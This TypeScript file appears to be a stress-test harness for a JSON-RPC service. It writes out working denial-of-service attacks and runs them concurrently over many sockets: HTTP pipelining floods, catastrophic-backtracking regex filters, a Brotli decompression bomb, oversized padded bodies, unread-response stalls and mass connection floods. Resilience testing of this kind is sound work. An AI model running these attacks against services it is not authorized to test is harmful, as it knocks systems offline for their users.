/** Attacks on the service: what clients send who want to bring it down, each as hard as one process can. */
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { brotliCompressSync, constants } from 'node:zlib';

/** Where an attack goes, and from where. */
export interface AttackTarget {
  host: string;
  port: number;
  authorization: string;
  /** The address to come from: each attacker has one of its own. */
  localAddress: string;
  /** Items that can be read. */
  items: readonly string[];
  /** Size of large bodies, before compression; default 8 MiB, which is the limit. */
  bodyBytes?: number;
}

/** One kind of attack: what is sent over how many connections, and whether answers are read. */
interface Attack {
  connections: number;
  /** The bytes of one round, made once. */
  request(target: AttackTarget): Buffer;
  /** Default: they are read. */
  readsNothing?: true;
}

const bodyBytesMax = 8 * 1024 * 1024;

function post(target: AttackTarget, body: Buffer, headers = ''): Buffer {
  const head =
    `POST /v1/rpc HTTP/1.1\r\nHost: x\r\nAuthorization: ${target.authorization}\r\nX-API-Version: 1.2\r\n` +
    `Content-Type: application/json\r\n${headers}Content-Length: ${body.length}\r\n\r\n`;
  return Buffer.concat([Buffer.from(head), body]);
}

function call(method: string, params: object, id = 1): object {
  return { jsonrpc: '2.0', id, method, params };
}

function json(target: AttackTarget, value: unknown): Buffer {
  return post(target, Buffer.from(JSON.stringify(value)));
}

function batch(target: AttackTarget, count: number, method: string, params: object): Buffer {
  return json(
    target,
    Array.from({ length: count }, (_, id) => call(method, params, id)),
  );
}

/** `begin` and `end` around as many `member`s as a body takes. */
function filled(target: AttackTarget, begin: string, member: (index: number) => string, end: string): Buffer {
  const { bodyBytes = bodyBytesMax } = target;
  const members: string[] = [];
  for (let length = 0; length < bodyBytes - begin.length - end.length - 100; ) {
    const text = member(members.length);
    members.push(text);
    length += text.length + 1;
  }
  return post(target, Buffer.from(begin + members.join(',') + end));
}

const saveSignals = '{"jsonrpc":"2.0","id":1,"method":"integration.saveSignals","params":';

function regex(pattern: string) {
  return (target: AttackTarget) =>
    batch(target, 50, 'service.selectItems', {
      query: { filter: { $or: Array.from({ length: 10 }, () => ({ description: { $regex: pattern } })) } },
    });
}

function evaluation(target: AttackTarget, aggregation: string): object {
  return {
    items: target.items.map((id, index) => ({ id, alias: `a${index}`, aggregation })),
    calculations: [],
    data: {
      filter: { times: { $gte: '2024-01-01T00:00:00Z', $lt: '2024-02-09T00:00:00Z' } },
      rollup: 'PT1H',
    },
  };
}

const raw = {
  query: { limit: 50 },
  data: { filter: { times: { $gte: '2024-01-01T00:00:00Z', $lt: '2024-02-09T00:00:00Z' } } },
};

/** Attack → how it is made. */
export const attacks: Readonly<Record<string, Attack>> = {
  'pipelined documents': {
    connections: 200,
    readsNothing: true,
    request: () => Buffer.from('GET /openrpc.json HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(1400)),
  },
  'compiled patterns': { connections: 8, request: regex('(?:x?){999}') },
  'slow patterns': { connections: 8, request: regex('\\pL{999}') },
  'new keys': {
    connections: 4,
    request: (target) =>
      filled(
        target,
        '{"jsonrpc":"2.0","id":1,"method":"integration.insert","params":{"data":{"times":["2024-01-01T00:00:00Z"],"series":{',
        (index) => `"k${index}":[1]`,
        '}}}}',
      ),
  },
  'empty signals': {
    connections: 4,
    request: (target) =>
      filled(target, `${saveSignals}{"signalsByInput":{`, (index) => `"k${index}":{}`, '}}}'),
  },
  'compressed bodies': {
    connections: 300,
    request: (target) => {
      const params = { [constants.BROTLI_PARAM_QUALITY]: 1 };
      const bomb = brotliCompressSync(Buffer.alloc(target.bodyBytes ?? bodyBytesMax, ' '), { params });
      return post(target, bomb, 'Content-Encoding: br\r\n');
    },
  },
  'empty objects': { connections: 8, request: (target) => filled(target, '[', () => '{}', ']') },
  'long texts': {
    connections: 20,
    readsNothing: true,
    request: (target) => batch(target, 50, 'admin.selectSignals', { query: { limit: 1000 } }),
  },
  'large answers': {
    connections: 20,
    request: (target) => batch(target, 10, 'service.dataFrame', raw),
  },
  'unread answers': {
    connections: 50,
    readsNothing: true,
    request: (target) => batch(target, 50, 'service.dataFrame', raw),
  },
  medians: {
    connections: 16,
    request: (target) => json(target, call('service.evaluate', evaluation(target, 'median'))),
  },
  'wrong values': {
    connections: 4,
    request: (target) =>
      filled(target, `${saveSignals}{"signalsByInput":{`, (index) => `"k${index}":{"name":7}`, '}}}'),
  },
  'unknown parameters': {
    connections: 4,
    request: (target) => filled(target, `${saveSignals}{`, (index) => `"p${index}":1`, '}}'),
  },
  descriptions: {
    connections: 50,
    request: (target) => batch(target, 50, 'rpc.discover', {}),
  },
  connections: {
    connections: 9000,
    readsNothing: true,
    request: () => Buffer.from('GET /livez HTTP/1.1\r\nHost: x\r\n\r\n'),
  },
};

/**
 * No attack, but a process that computes, to compare with: so much the use of this machine's processors by attackers changes the
 * figures, who would be on other machines.
 */
export const busyProcessor = 'busy processor';

/** Carries one out for so long; its connections are opened again when the service closes them. */
export async function attack(name: string, target: AttackTarget, durationMs: number): Promise<void> {
  if (name === busyProcessor) return compute(durationMs);
  const { connections, request, readsNothing } = attacks[name];
  const bytes = request(target);
  const endMs = performance.now() + durationMs;
  const isOver = () => performance.now() > endMs;
  await Promise.all(
    Array.from({ length: connections }, async () => {
      while (!isOver()) {
        await round(target, bytes, readsNothing === true, endMs);
        await sleep(20);
      }
    }),
  );
}

function compute(durationMs: number): void {
  const endMs = performance.now() + durationMs;
  while (performance.now() < endMs);
}

/** One connection until it is closed or the time is over: sends, and sends again as often as something was answered. */
function round(target: AttackTarget, bytes: Buffer, readsNothing: boolean, endMs: number): Promise<void> {
  return new Promise((resolve) => {
    const { host, port, localAddress } = target;
    const socket = connect({ host, port, localAddress });
    const timer = setTimeout(() => socket.destroy(), endMs - performance.now());
    socket.on('error', () => {});
    socket.once('close', () => {
      clearTimeout(timer);
      resolve();
    });
    socket.once('connect', () => socket.write(bytes));
    if (readsNothing) socket.pause();
    // The end of an answer: the next one is asked for. Whether it was 200 or 503 makes no difference here.
    else
      socket.on('data', (chunk: Buffer) => {
        if (/(?:0\r\n\r\n|[}\]])$/.test(chunk.toString('latin1', Math.max(0, chunk.length - 8))))
          socket.write(bytes);
      });
  });
}
